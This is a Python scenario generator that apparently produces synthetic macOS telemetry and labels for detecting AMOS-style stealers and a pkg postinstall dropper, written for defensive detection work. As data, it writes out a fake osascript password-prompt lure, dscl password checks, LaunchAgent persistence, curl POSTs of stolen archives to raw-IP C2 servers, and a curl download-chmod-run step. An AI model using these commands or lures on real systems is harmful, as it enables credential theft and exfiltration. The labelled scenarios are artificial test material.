        malicious=True, route="dmg", app="Safari", stage3=app, egress=[(app, c2, 80)], payload_files=[dmg],
        severity="critical",
        note="Safari's com.apple.WebKit.Networking (parent launchd, responsible Safari) writes the .download bundle; "
             "the image's volume is 'Mac Optimizer Pro' (another brand than the file name, with spaces, APFS). The "
             "ad-hoc app is translocated, refused, allowed in System Settings (macOS 26: ES event 146 and the "
             "unified log) and opened. It runs its anti-VM check and the osascript password prompt through popen "
             "(sh -c), checks the password with dscl, copies browser, keychain and wallet files itself and zips "
             "them with ditto; the exfiltration POST is made by the app process itself (no curl child). Banshee "
             "builds described by Elastic also used curl; this one follows the NSURLSession variant.")


@scenario("cuckoo-dmg-firefox")
def cuckoo_dmg_firefox(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-02-17", 60, "lena", "2026-02-16T06:55:09.402217", "192.168.0.112", 3_021, 90_114,
             asid=100_008)
    d = daemons(h)
    firefox = start_firefox(h, h.t("16:40:12.381190"))
    h.connect(h.t("16:41:55.023618"), firefox, "104.26.4.158", 443, domain="www.dumpmedia.com")
    dmg, dmg_node = firefox_download(h, firefox, "DumpMediaSpotifyMusicConverter.dmg", 48_234_496,
                                     h.t("16:41:58.740044"), h.t("16:42:21.006511"))
    h.connect(h.t("16:41:58.611930"), firefox, "104.26.5.158", 443, domain="download.dumpmedia.com")
    vol = mount_dmg(h, d, h.t("16:42:30.118420"), dmg, dmg_node, "DumpMedia Spotify Music Converter", blocks=64_512)
    app_path, app_node, exe_ino = volume_app(h, vol, "DumpMedia Spotify Music Converter.app",
                                             "DumpMediaSpotifyMusicConverter", 0, h.t("16:42:34"))
    team = "VR3K8ZJ2YB"  # a Developer ID team seen nowhere else in the corpus (not notarized)
    signing = "com.dumpmedia.spotifymusicconverter"
    opened = open_app(h, d, h.t("16:42:36.660198"), app_path=app_path, exe_name="DumpMediaSpotifyMusicConverter",
                      bundle_id=signing, app_node=app_node, flow="blocked", translocate=False, team=team,
                      binary_of=adhoc_app(signing, 9_407_312, exe_ino, flags=FLAGS_DEVID_NORUNTIME, team=team))
    app = opened.app
    t = h.t("16:43:31.401882")
    _, end = run_sh(h, t, app, "defaults read ~/Library/Preferences/.GlobalPreferences AppleLanguages", DEFAULTS,
                    ["defaults", "read", f"{h.home}/Library/Preferences/.GlobalPreferences", "AppleLanguages"],
                    runs=61 * MS)
    home_copy = f"{h.home}/.local-{huuid(h.name, 'cuckoo')}"
    copy_path = f"{home_copy}/Pages"
    cursor = end + 22 * MS
    h.create(cursor, app, home_copy, h.dnode(cursor))
    copy_node = h.node(cursor + 2 * MS, mode=0o100644)
    h.create(cursor + 2 * MS, app, copy_path, copy_node)
    copy_node = replace(copy_node, size=9_407_312)
    h.close(cursor + 31 * MS, app, copy_path, copy_node)
    h.setmode(cursor + 33 * MS, app, copy_path, replace(copy_node, mode=0o100755), 0o755)
    plist = f"{h.home}/Library/LaunchAgents/com.user.loginscript.plist"
    plist_node = h.node(cursor + 40 * MS)
    h.create(cursor + 40 * MS, app, plist, plist_node)
    h.close(cursor + 41 * MS, app, plist, replace(plist_node, size=612))
    btmd = h.running(BTM_AGENT, pid=288 + hnum(h.name, "btm") % 20, start=h.boot_ns + 12_000_000_000,
                     cred=ROOT_CRED)
    h.es(cursor + 63 * MS, btmd, "btm_launch_item_add", {
        "instigator": h.p(app), "app": None,
        "item": {"item_type": 3, "legacy": True, "managed": False, "uid": 501,
                 "item_url": f"file://{url_quote(plist)}", "app_url": None},
        "executable_path": copy_path,
    })
    copy_binary = malware(copy_path, signing, 9_407_312, team=team, flags=FLAGS_DEVID_NORUNTIME,
                          ino=copy_node.ino)
    # the app starts its copy, which does the collection
    copy = h.spawn(cursor + 90 * MS, app, copy_binary, [copy_path], cwd=h.home)
    h.exit(cursor + 240 * MS, app)
    t = cursor + 1 * S + 5 * MS
    prompt = ('display dialog "macOS needs to access System Settings. Please enter your password." with title '
              '"System Preferences" with icon caution default answer "" with hidden answer')
    osa = sh_c(h, t, copy, f"osascript -e {shq(prompt)}", OSASCRIPT, ["osascript", "-e", prompt])
    h.exit(t + 9 * S + 402 * MS, osa)
    _, end = run_sh(h, t + 9 * S + 430 * MS, copy, f"dscl . authonly {h.user} 'lena2026'", DSCL,
                    ["dscl", ".", "authonly", h.user, "lena2026"], runs=170 * MS)
    stage = f"{home_copy}/{hpick('ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', 8, h.name, 'ck')}.zip"
    zipped = h.node(end + 900 * MS)
    h.create(end + 900 * MS, copy, stage, zipped)
    h.close(end + 1 * S + 302 * MS, copy, stage, replace(zipped, size=740_112))
    c2 = "146.70.80.123"
    args = ["curl", "-s", "-X", "POST", "-F", f"file=@{stage}", f"http://{c2}/static/php/index.php"]
    curl = sh_c(h, end + 1 * S + 400 * MS, copy, shlex.join(args), CURL, args)
    h.connect(end + 1 * S + 431 * MS, curl, c2, 80, args=args)
    h.exit(end + 2 * S + 620 * MS, curl)
    return h, label(
        h, family="Cuckoo", reporting=[REPORTING["cuckoo"]], malicious=True, route="dmg", app="Firefox",
        stage3=app, egress=[(curl, c2, 80)], payload_files=[dmg],
        note="Firefox (main process) writes an empty placeholder, the data in .part, renames .part over the "
             "placeholder and quarantines it; plugin-container children are noise. The disk image is signed, so the "
             "app (Developer ID team VR3K8ZJ2YB, not notarized, no hardened runtime) runs from /Volumes/... without "
             "translocation after the System Settings override. It copies itself to ~/.local-<UUID>/Pages, writes "
             "~/Library/LaunchAgents/com.user.loginscript.plist (ES btm_launch_item_add) and spawns the copy, which "
             "prompts for the password with osascript, checks it with dscl and POSTs the archive with curl. The C2 "
             "address is the shape of the Kandji report (raw IP, /static/php/index.php); team id is invented.")


@scenario("poseidon-dmg-edge")
def poseidon_dmg_edge(name: str) -> Scenario:
    subscribed = frozenset(ES_TYPES) - {"gatekeeper_user_override"}
    h = Host(name, MACOS26, "2026-03-11", 120, "rhofer", "2026-03-10T08:14:40.008317", "172.20.10.4", 5_118,
             121_800, asid=100_021, subscribed=subscribed)
    d = daemons(h)
    edge, net = start_edge(h, h.t("07:31:44.902117"))
    chrome_profile_noise(h, h.t("07:32:10.441203"), edge, profile="Microsoft Edge")
    h.connect(h.t("07:33:18.004531"), net, "172.67.140.61", 443, domain="arc-browser-download.com")
    dmg, dmg_node = chrome_like_download(h, edge, "Arc_1.49.0_arm64.dmg", 6_291_456, h.t("07:33:18.550214"),
                                         h.t("07:33:22.118907"))
    vol = mount_dmg(h, d, h.t("07:33:27.336011"), dmg, dmg_node, "Arc", blocks=24_576)
    src = f"{vol.path}/Arc.app"
    dst = "/Applications/Arc.app"
    files = [("Contents/Info.plist", 1_588), ("Contents/MacOS/Arc", 3_112_960),
             ("Contents/Resources/AppIcon.icns", 604_211), ("Contents/_CodeSignature/CodeResources", 2_901)]
    nodes = copy_bundle(h, h.t("07:33:41.204400"), d.finder, src, dst, files)
    app_node = nodes[dst]
    exe_node = nodes[f"{dst}/Contents/MacOS/Arc"]
    opened = open_app(h, d, h.t("07:33:49.771980"), app_path=dst, exe_name="Arc", bundle_id="com.arc.browser.app",
                      app_node=app_node, flow="blocked", translocate=False, es_override=False,
                      binary_of=lambda path, dev: malware(path, "com.arc.browser.app", 3_112_960, ino=exe_node.ino,
                                                          dev=dev))
    app = opened.app
    run = amos_run(h, h.t("07:34:58.206441"), app, c2="194.87.31.40", route="/p2p", password="Hofer!1972",
                   prompt="Arc wants to make changes. Enter your password to allow this.", title="Arc")
    h.exit(run.end + 120 * MS, app)
    return h, label(
        h, family="Poseidon Stealer", reporting=[REPORTING["poseidon-mb"], REPORTING["poseidon-ncsc"]],
        malicious=True, route="dmg", app="Microsoft Edge", stage3=app, egress=[(run.curl, "194.87.31.40", 80)],
        payload_files=[dmg, f"{dst}/Contents/MacOS/Arc"], severity="critical",
        note="Edge's browser process writes the .crdownload (Chromium writes downloads in the browser process; its "
             "helpers are the network service and renderers). The user drags Arc.app from /Volumes/Arc to "
             "/Applications: Finder creates every item and copies the quarantine attribute, so the app is not "
             "translocated and runs from /Applications. eslogger on this Mac was not subscribed to "
             "gatekeeper_user_override: the override is only in the unified log ('Cleared Gatekeeper rejection "
             "record sucessfully'). Poseidon is an AMOS-lineage AppleScript stealer: osascript prompt, dscl, "
             "ditto, curl POST to /p2p on a raw IP.")


def amos_variant(h: Host, d: Daemons, *, browser: str, dmg_name: str, volume: str, app_name: str, bundle_id: str,
                 t0: str, c2: str, password: str, exfil: str = "direct", pad_to: int = 0,
                 reuse_curl_pid: int | None = None, title: str = "Application wants to install helper",
                 prompt: str = AMOS_PROMPT, safari_preexisting: bool = False) -> tuple[Image, AmosRun, str, Image]:
    """The AMOS disk-image chain of amos-dmg-chrome, parameterised for the hard variants."""
    base = h.t(t0)
    if browser == "chrome":
        writer, net, _ = start_chrome(h, base)
        chrome_profile_noise(h, base + 31 * S, writer)
        start = base + 4 * 60 * S
        h.connect(start - 90 * MS, net, "172.67.181.92", 443, domain="get-app-mac.pages.dev")
        dmg, node = chrome_like_download(h, writer, dmg_name, 7_864_320, start, start + 6 * S + 502 * MS)
        browser_img = writer
    elif browser == "edge":
        writer, net = start_edge(h, base)
        start = base + 3 * 60 * S
        h.connect(start - 90 * MS, net, "104.21.80.17", 443, domain="reader-install.com")
        dmg, node = chrome_like_download(h, writer, dmg_name, 7_864_320, start, start + 6 * S + 502 * MS)
        browser_img = writer
    else:  # safari
        if safari_preexisting:  # Safari and its helpers were running before eslogger started
            safari = h.running(SAFARI, pid=h.pid0 - 611, start=base - 41 * 60 * S)
            networking = h.running(NETWORKING, pid=h.pid0 - 607, start=base - 41 * 60 * S + 298 * MS,
                                   responsible=safari)
            h.ul_launch(base - 41 * 60 * S, base - 41 * 60 * S + 5 * MS, SAFARI_JOB, "com.apple.Safari", safari.pid,
                        SAFARI.path, "/Applications/Safari.app")
            noise_webcontent(h, base + 12 * S, safari)
        else:
            safari, networking, _ = start_safari(h, base)
        start = base + 2 * 60 * S
        h.connect(start - 90 * MS, networking, "188.114.96.7", 443, domain="mac-app-setup.com")
        dmg, node = safari_download(h, networking, dmg_name, 7_864_320, start, start + 6 * S + 502 * MS)
        browser_img = safari
    mount_at = start + 11 * S + 207 * MS
    vol = mount_dmg(h, d, mount_at, dmg, node, volume, click=browser == "safari" and not safari_preexisting)
    exe = app_name.removesuffix(".app")
    app_path, app_node, exe_ino = volume_app(h, vol, app_name, exe, 0, mount_at)
    opened = open_app(h, d, mount_at + 6 * S + 880 * MS, app_path=app_path, exe_name=exe, bundle_id=bundle_id,
                      app_node=app_node, flow="blocked", translocate=True,
                      binary_of=adhoc_app(bundle_id, 3_401_552, exe_ino))
    app = opened.app
    run = amos_run(h, app.start_ns + 12 * S + 404 * MS, app, c2=c2, password=password, exfil=exfil, pad_to=pad_to,
                   reuse_curl_pid=reuse_curl_pid, title=title, prompt=prompt)
    h.exit(run.end + 211 * MS, app)
    return app, run, dmg, browser_img


def amos_note(extra: str) -> str:
    return ("AMOS disk-image chain as in amos-dmg-chrome (download, mount, translocation, refusal, System Settings "
            "override, osascript + do shell script collection, ditto, curl POST to a raw IP). " + extra)


AMOS_REPORTS = [REPORTING["amos-s1"], REPORTING["amos-jamf"], REPORTING["amos-mb"]]


@scenario("messaging-dmg")
def messaging_dmg(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-04", 0, "ocarter", "2026-02-28T22:10:30.114410", "192.168.1.77", 1_448, 47_012,
             asid=100_009)
    d = daemons(h)
    h.ul_pids[TELEGRAM.path] = 0  # set on launch below
    telegram = h.launch(h.t("11:02:40.228304"), TELEGRAM, bundle_id="ru.keepcoder.Telegram",
                        app_url="/Applications/Telegram.app")
    h.ul_pids[TELEGRAM.path] = telegram.pid
    h.connect(h.t("11:02:41.771022"), telegram, "149.154.167.51", 443)
    # the lure arrives in a chat: Telegram caches the document in its group container, then saves it to Downloads
    cache = (f"{h.home}/Library/Group Containers/6N38VWS5BX.ru.keepcoder.Telegram/stable/account-"
             f"{7_100_000_000 + hnum(h.name, 'acct') % 99_999_999}/postbox/media/telegram-cloud-document-5-"
             f"{5_000_000_000_000_000_000 + hnum(h.name, 'doc') % 999_999_999_999_999}")
    t = h.t("11:05:12.402311")
    cached = h.node(t)
    h.create(t, telegram, cache, cached)
    cached = replace(cached, size=8_650_752)
    h.close(t + 9 * S + 114 * MS, telegram, cache, cached)
    h.connect(t - 40 * MS, telegram, "149.154.167.222", 443)
    dmg = f"{h.downloads}/Meetio-Setup.dmg"
    saved = h.node(t + 14 * S + 220 * MS)
    h.create(t + 14 * S + 220 * MS, telegram, dmg, saved)
    saved = replace(saved, size=8_650_752)
    h.close(t + 14 * S + 301 * MS, telegram, dmg, saved)
    h.setxattr(t + 14 * S + 303 * MS, telegram, dmg, saved)
    mount_at = t + 17 * S + 9 * MS
    vol = mount_dmg(h, d, mount_at, dmg, saved, "Meetio")
    app_path, app_node, exe_ino = volume_app(h, vol, "Meetio.app", "Meetio", 0, mount_at)
    opened = open_app(h, d, mount_at + 5 * S + 118 * MS, app_path=app_path, exe_name="Meetio",
                      bundle_id="com.meetio.desktop", app_node=app_node, flow="blocked", translocate=True,
                      binary_of=adhoc_app("com.meetio.desktop", 3_019_280, exe_ino))
    app = opened.app
    run = amos_run(h, app.start_ns + 9 * S, app, c2="91.92.120.79", password="carter-Home7",
                   title="Meetio wants to install a helper")
    h.exit(run.end + 144 * MS, app)
    return h, label(
        h, family="AMOS/Atomic", reporting=[*AMOS_REPORTS, REPORTING["meeten"]], malicious=True, route="dmg",
        app="Telegram", stage3=app, egress=[(run.curl, "91.92.120.79", 80)], payload_files=[dmg], severity="critical",
        note="The lure is a 'meeting app' sent as a document in a Telegram chat (the Meeten/Realst campaigns used "
             "Telegram contacts; here the disk image is sent directly). Telegram (Developer ID 6N38VWS5BX) caches "
             "it in its group container, saves it to ~/Downloads and sets the quarantine itself; the rest is the "
             "AMOS chain. Stage 1 is a messaging app, not a browser.")


@scenario("hard-no-unifiedlog")
def hard_no_unifiedlog(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-12", 60, "fbauer", "2026-03-09T07:00:12.300142", "192.168.2.30", 2_604,
             66_301, asid=100_012, unified=False)
    d = daemons(h)
    app, run, dmg, _ = amos_variant(h, d, browser="chrome", dmg_name="TradingView-Desktop-2.9.dmg",
                                    volume="TradingView", app_name="TradingView.app",
                                    bundle_id="com.tradingview.installer", t0="13:10:02.118804", c2="45.141.87.16",
                                    password="Fb!2026bauer")
    return h, label(
        h, family="AMOS/Atomic", reporting=AMOS_REPORTS, malicious=True, route="dmg", app="Google Chrome",
        stage3=app, egress=[(run.curl, "45.141.87.16", 80)], payload_files=[dmg], severity="critical",
        note=amos_note("This Mac ships no unified log at all: no launch, click, translocation, scan, prompt or "
                       "'Cleared Gatekeeper rejection record' lines. Stage 1 has to come from Chrome's exec and its "
                       "own file writes; the Gatekeeper context only from ES (gatekeeper_user_override, macOS 26, "
                       "message version 10 with array audit tokens) and the refused launch (xpcproxy killed)."))


@scenario("hard-pid-reuse")
def hard_pid_reuse(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-05", 60, "skim", "2026-02-20T09:31:55.870021", "10.10.4.18", 3_300, 188_004,
             asid=100_031)
    d = daemons(h)
    app, run, dmg, _ = amos_variant(h, d, browser="safari", dmg_name="Notion-3.12.0-arm64.dmg", volume="Notion",
                                    app_name="Notion.app", bundle_id="com.notion.setup", t0="10:40:11.009331",
                                    c2="95.164.18.202", password="Skim#0412")
    reused = run.curl.pid
    # Hours earlier (before pids wrapped past 99999 again) the same pid was a managed inventory script's curl.
    saved_pv = h._pv
    h._pv = 150_118
    t = h.t("07:12:30.402118")
    script = h.launch(t, BASH, args=["/bin/bash", "/Library/Management/acme/inventory.sh"], cred=ROOT_CRED,
                      job="com.acme.inventory")
    args = ["curl", "-s", "-X", "POST", "-H", "Content-Type: application/json", "--data-binary",
            "@/private/var/tmp/acme-inventory.json", "https://inventory.acme-corp.com/api/v2/checkin"]
    earlier = h.spawn(t + 402 * MS, script, CURL, args, pid=reused)
    h.connect(t + 431 * MS, earlier, "52.29.61.140", 443, domain="inventory.acme-corp.com", args=args)
    h.exit(t + 1 * S + 118 * MS, earlier)
    h.exit(t + 1 * S + 140 * MS, script)
    h._pv = saved_pv
    return h, label(
        h, family="AMOS/Atomic", reporting=AMOS_REPORTS, malicious=True, route="dmg", app="Safari", stage3=app,
        egress=[(run.curl, "95.164.18.202", 80)], payload_files=[dmg], severity="critical",
        note=amos_note(f"Pid {reused} is used twice: at 07:12 by a root inventory script's curl (launchd -> bash "
                       "-> curl, a POST to inventory.acme-corp.com, also in the Elastic file) and at 10:4x by the "
                       "stealer's curl. The two images have different pidversions, start times and Elastic entity "
                       "ids; only the second connection belongs to the chain."))


@scenario("hard-sh-indirection")
def hard_sh_indirection(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-13", -300, "pwalsh", "2026-03-12T12:44:08.553108", "192.168.86.23", 8_811,
             302_418, asid=100_040)
    d = daemons(h)
    app, run, dmg, _ = amos_variant(h, d, browser="chrome", dmg_name="LedgerLive-2.101.0-mac.dmg",
                                    volume="Ledger Live", app_name="Ledger Live.app", bundle_id="com.ledger.setup",
                                    t0="15:02:44.104412", c2="185.93.89.61", password="walshP@ss",
                                    exfil="nohup")
    return h, label(
        h, family="AMOS/Atomic", reporting=AMOS_REPORTS, malicious=True, route="dmg", app="Google Chrome",
        stage3=app, egress=[(run.curl, "185.93.89.61", 80)], payload_files=[dmg], severity="critical",
        note=amos_note("The exfiltration is detached: do shell script runs `nohup /bin/bash -c 'sleep 3; curl ...; "
                       "rm -f /tmp/out.zip' > /dev/null 2>&1 &`. The sh -c shell forks the background job and exits "
                       "at once, so the job (nohup, then a second bash) is reparented to launchd (ppid 1, "
                       "original_ppid the exited shell) and curl is a child of that second bash: app -> osascript "
                       "-> sh/bash (gone) -> nohup/bash (orphan) -> curl."))


@scenario("hard-browser-helper")
def hard_browser_helper(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-06", 60, "ahmed", "2026-03-01T08:20:41.002214", "192.168.10.9", 4_470, 140_300,
             asid=100_016)
    d = daemons(h)
    app, run, dmg, safari = amos_variant(h, d, browser="safari", dmg_name="Loom-0.291.4.dmg", volume="Loom Setup",
                                         app_name="Loom.app", bundle_id="com.loom.installer", t0="09:44:10.700218",
                                         c2="5.42.92.140", password="Ahmed.2026", safari_preexisting=True)
    return h, label(
        h, family="AMOS/Atomic", reporting=AMOS_REPORTS, malicious=True, route="dmg", app="Safari", stage3=app,
        egress=[(run.curl, "5.42.92.140", 80)], payload_files=[dmg], severity="critical",
        note=amos_note(f"Safari (pid {safari.pid}) and its com.apple.WebKit.Networking helper were started 41 "
                       "minutes before eslogger was: no exec or fork of either is in the capture, Safari's launch is "
                       "only in the unified log, and every file event of the download is by the Networking helper, "
                       "whose parent is launchd and whose responsible_audit_token is Safari's. Safari opens the "
                       "'safe' disk image by itself (no Finder click before DiskImageMounter)."))


@scenario("hard-hostile-names")
def hard_hostile_names(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-10", 540, "yuki", "2026-03-08T23:58:02.640100", "192.168.0.21", 1_200, 40_404,
             asid=100_005)
    d = daemons(h)
    app_name = 'Reader "Pro"}] [2026]\u202efdp.app'
    app, run, dmg, _ = amos_variant(h, d, browser="edge", dmg_name='Adobe_Reader "Pro"}]{[2026].dmg',
                                    volume='Reader\nInstaller "}]', app_name=app_name, bundle_id="com.reader.pro",
                                    t0="02:11:40.201774", c2="62.60.148.33", password='p"w}]\\n',
                                    pad_to=10_240, title='Reader "Pro"}] needs a helper')
    return h, label(
        h, family="AMOS/Atomic", reporting=AMOS_REPORTS, malicious=True, route="dmg", app="Microsoft Edge",
        stage3=app, egress=[(run.curl, "62.60.148.33", 80)], payload_files=[dmg], severity="critical",
        note=amos_note("Attacker-chosen strings are hostile: the disk image is named with quotes and '\"}]{[', the "
                       "volume name holds a newline and '\"}]', the app name holds quotes, brackets and a "
                       "right-to-left override (U+202E: Finder shows 'Reader \"Pro\"}] [2026]ppa.pdf'), the "
                       "password holds a quote, braces and a backslash, and osascript's single -e argument is over "
                       "10 kB (a large AMOS build)."))


def archive_extract(h: Host, t: int, zip_path: str, zip_node: Inode, dest: str,
                    items: list[tuple[str, int | None, int]], *,
                    quarantine: bool = True) -> tuple[Image, dict[str, Inode]]:
    """The user opens the zip: Archive Utility extracts each item next to it and copies the quarantine on each.

    ``items``: (relative path, size or None for a folder, mode)."""
    archiver = h.launch(t, ARCHIVER, bundle_id="com.apple.archiveutility")
    at = t + 358 * MS
    h.open(at, archiver, zip_path, zip_node)
    nodes: dict[str, Inode] = {}
    for rel, size, mode in items:
        at += 1_411_000 + hnum(rel) % 900_000
        path = f"{dest}/{rel}"
        node = h.dnode(at) if size is None else h.node(at, 0, mode=mode)
        h.create(at, archiver, path, node)
        if size is not None:
            at += 2_000_000 + size // 400
            node = replace(node, size=size, modified=iso_ns(at), changed=iso_ns(at))
            h.close(at, archiver, path, node)
        if quarantine:
            h.setxattr(at + 402_000, archiver, path, node)
        nodes[path] = node
    h.exit(at + 3 * S + 118 * MS, archiver)
    return archiver, nodes


def app_items(app: str, exe: str, exe_size: int, *, script: bool = False, extra: list[tuple[str, int]] = ()) -> list[
        tuple[str, int | None, int]]:
    items: list[tuple[str, int | None, int]] = [
        (app, None, 0), (f"{app}/Contents", None, 0), (f"{app}/Contents/Info.plist", 1_104, 0o100644),
        (f"{app}/Contents/MacOS", None, 0), (f"{app}/Contents/MacOS/{exe}", exe_size, 0o100755),
        (f"{app}/Contents/Resources", None, 0)]
    items += [(f"{app}/Contents/Resources/{name}", size, 0o100644) for name, size in extra]
    if not script:
        items += [(f"{app}/Contents/_CodeSignature", None, 0), (f"{app}/Contents/_CodeSignature/CodeResources",
                                                                 2_245, 0o100644)]
    return items


@dataclass
class PkgRun:
    installer: Image
    shells: list[Image]
    scripts: list[str]


def pkg_install(h: Host, d: Daemons, t: int, pkg: str, pkg_node: Inode, *, pkg_ids: list[str], blocked: bool,
                payload: list[tuple[str, int]], scripts: tuple[str, ...] = ("postinstall",),
                team: str | None = None) -> PkgRun:
    """Installer.app opens the package; installd expands it into /tmp/PKInstallSandbox.*; package_script_service
    runs each script as root with ``/bin/sh <script> <package> <target> <volume> <root>`` and makes the Installer
    app the responsible process."""
    name = pkg.rsplit("/", 1)[-1]
    installer = h.launch(t, INSTALLER, bundle_id="com.apple.installer", args=[INSTALLER.path],
                         app_url="/System/Library/CoreServices/Installer.app")
    h.open(t + 210 * MS, installer, pkg, pkg_node)
    h.ul(t + 214 * MS, "installer", f"Opened from: {pkg}", "Opened from: %{public}@")
    cursor = t + 1 * S
    if blocked:
        shown = h.ul_scan(cursor, pkg, None, name, None, 3, prompt=(1, 0))
        h.exit(shown + 1 * S + 504 * MS, installer)
        settings = h.launch(shown + 12 * S, SETTINGS, bundle_id="com.apple.systempreferences",
                            app_url="/System/Applications/System Settings.app")
        override = shown + 26 * S + 77 * MS
        h.gk_override(override, d.syspolicyd, pkg, pkg_node, None,
                      sha256=_digest(h.name, "pkg", pkg).hex())
        h.ul_cleared(override + 5_118_000)
        h.exit(override + 1 * S, settings)
        cursor = override + 5 * S
        installer = h.launch(cursor, INSTALLER, bundle_id="com.apple.installer", args=[INSTALLER.path],
                             app_url="/System/Library/CoreServices/Installer.app")
        h.open(cursor + 190 * MS, installer, pkg, pkg_node)
        h.ul(cursor + 196 * MS, "installer", f"Opened from: {pkg}", "Opened from: %{public}@")
        h.ul_scan(cursor + 400 * MS, pkg, None, name, None, 0, prompt=(6, 0))
        cursor += 4 * S
    else:  # a signed, notarized package passes the assessment without a Gatekeeper prompt
        h.ul_scan(cursor, pkg, team, name, None, 0)
    cursor += 9 * S + 402 * MS  # Continue, licence, Install, the admin password
    installd = h.running(INSTALLD, pid=900 + hnum(h.name, "installd") % 90, start=h.boot_ns + 61 * S,
                         cred=ROOT_CRED)
    sandbox = f"/private/tmp/PKInstallSandbox.{hpick(ALNUM, 6, h.name, pkg)}"
    h.create(cursor, installd, sandbox, h.dnode(cursor, uid=0))
    script_paths = []
    for pkg_id in pkg_ids:
        folder = f"{sandbox}/Scripts/{pkg_id}.{hpick(ALNUM, 6, h.name, pkg_id)}"
        cursor += 31 * MS
        h.create(cursor, installd, folder, h.dnode(cursor, uid=0))
        for script in scripts:
            cursor += 6 * MS
            node = h.node(cursor, 0, mode=0o100755, uid=0)
            h.create(cursor, installd, f"{folder}/{script}", node)
            h.close(cursor + 1 * MS, installd, f"{folder}/{script}", replace(node, size=1_877))
            script_paths.append(f"{folder}/{script}")
    for path, size in payload:
        cursor += 12 * MS
        node = h.node(cursor, 0, mode=0o100755 if "/MacOS/" in path else 0o100644, uid=0)
        h.create(cursor, installd, path, node)
        h.close(cursor + 2 * MS + size // 2_000_000 * MS, installd, path, replace(node, size=size))
    cursor += 1 * S + 118 * MS
    pss = h.launch(cursor, PKG_SCRIPT_SERVICE, cred=ROOT_CRED, job="com.apple.PackageKit.package_script_service")
    h.ul_pids[PKG_SCRIPT_SERVICE.path] = pss.pid
    h.ul_pids[INSTALLD.path] = installd.pid
    shells = []
    for path in script_paths:
        if not path.endswith("postinstall"):
            continue
        cursor += 310 * MS
        folder, _, leaf = path.rpartition("/")
        h.ul(cursor - 2 * MS, "package_script_service",
             f"PackageKit: Preparing to execute script \"./{leaf}\" in {folder.removeprefix('/private')}",
             "PackageKit: Preparing to execute script \"%{public}@\" in %{public}@")
        child = h.fork(cursor, pss)
        h.ul(cursor + 1 * MS, "package_script_service", f"Set responsibility for pid {child.pid} to pid "
             f"{installer.pid}", "Set responsibility for pid %d to pid %d", pc=480)
        args = ["/bin/sh", path.removeprefix("/private"), pkg, "/Applications", "/", "/"]
        env = ["PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/libexec", f"INSTALL_PKG_SESSION_ID={pkg_ids[0]}",
               f"PACKAGE_PATH={pkg}", "DSTVOLUME=/", "DSTROOT=/Applications", "INSTALLER_TEMP=" + sandbox,
               f"USER={h.user}", f"HOME={h.home}", "COMMAND_LINE_INSTALL=0", "SHLVL=1"]
        sh = h.exec(cursor + 1_900_000, child, SH, args, env=env, cwd=folder, responsible=installer)
        bash = h.exec(cursor + 3_200_000, sh, BASH, args, env=env, cwd=folder, responsible=installer)
        shells.append(bash)
    return PkgRun(installer, shells, script_paths)


@scenario("pkg-installer")
def pkg_installer(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-02-25", 60, "tnguyen", "2026-02-24T07:52:13.001200", "192.168.178.66", 1_902,
             61_170, asid=100_013)
    d = daemons(h)
    chrome, net, _ = start_chrome(h, h.t("13:15:02.771209"))
    h.connect(h.t("13:16:40.221002"), net, "104.21.44.190", 443, domain="clip-studio-free.com")
    pkg, pkg_node = chrome_like_download(h, chrome, "Setup.pkg", 1_482_752, h.t("13:16:41.006118"),
                                         h.t("13:16:43.440129"))
    run = pkg_install(h, d, h.t("13:16:47.118044"), pkg, pkg_node, pkg_ids=["com.setup.installer.pkg"], blocked=True,
                      payload=[("/Applications/Setup Helper.app/Contents/Info.plist", 880)])
    bash = run.shells[0]
    root_tmp = "/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T"
    target = f"{root_tmp}/.com.setup.helper"
    t = bash.start_ns + 12 * MS
    url = "http://91.92.242.103/mac/payload.bin"
    curl = h.spawn(t, bash, CURL, ["curl", "-fsSL", url, "-o", target], env=None)
    h.connect(t + 30 * MS, curl, "91.92.242.103", 80, args=["curl", "-fsSL", url, "-o", target])
    node = h.node(t + 212 * MS, uid=0)
    h.create(t + 212 * MS, curl, target, node)
    node = replace(node, size=5_240_880)
    h.close(t + 2 * S + 6 * MS, curl, target, node)
    h.exit(t + 2 * S + 9 * MS, curl)
    chmod = h.spawn(t + 2 * S + 20 * MS, bash, CHMOD, ["chmod", "+x", target])
    h.setmode(t + 2 * S + 23 * MS, chmod, target, replace(node, mode=0o100755), 0o755)
    h.exit(t + 2 * S + 24 * MS, chmod)
    implant_binary = malware(target, "payload-55f0b1c2d9e4a7b3", 5_240_880, ino=node.ino, dev=DEV_DATA)
    implant = h.spawn(t + 2 * S + 40 * MS, bash, implant_binary, [target], cred=ROOT_CRED)
    h.exit(t + 2 * S + 51 * MS, bash)
    h.orig_ppid[(implant.pid, implant.start_ns)] = bash.pid
    h.connect(t + 3 * S + 402 * MS, implant, "91.92.242.103", 443, args=[target])
    h.exit(t + 9 * S, run.installer)
    return h, label(
        h, family="pkg postinstall dropper (Silver Sparrow / Realst pkg style)",
        reporting=[REPORTING["silversparrow"], REPORTING["realst"]], malicious=True, route="pkg",
        app="Google Chrome", stage3=replace(run.shells[0], binary=SH), payload_files=[pkg, target],
        egress=[(curl, "91.92.242.103", 80), (implant, "91.92.242.103", 443)], severity="critical",
        note="Chrome writes Setup.pkg; the unsigned package is refused by Installer, allowed in System Settings (ES "
             "gatekeeper_user_override on the .pkg with its sha256 and no signing info) and opened again. The "
             "postinstall script is run as root by package_script_service (parent launchd), not by Installer or "
             "Chrome; the only links back are its arguments ($1 = the package in ~/Downloads), Installer being its "
             "responsible process ('Set responsibility for pid ... to pid <Installer>') and the Gatekeeper "
             "override. The script (stage 3: /bin/sh, re-exec'd as bash) curls a payload into root's "
             "/private/var/folders/zz/.../T, chmods and starts it; curl and the payload connect out. "
             "Stage 3 is the postinstall shell; the opened package's Installer process is context.")


@scenario("script-app")
def script_app(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-03", -300, "bwhite", "2026-03-02T11:20:40.110014", "192.168.1.150", 6_640,
             204_877, asid=100_022)
    d = daemons(h)
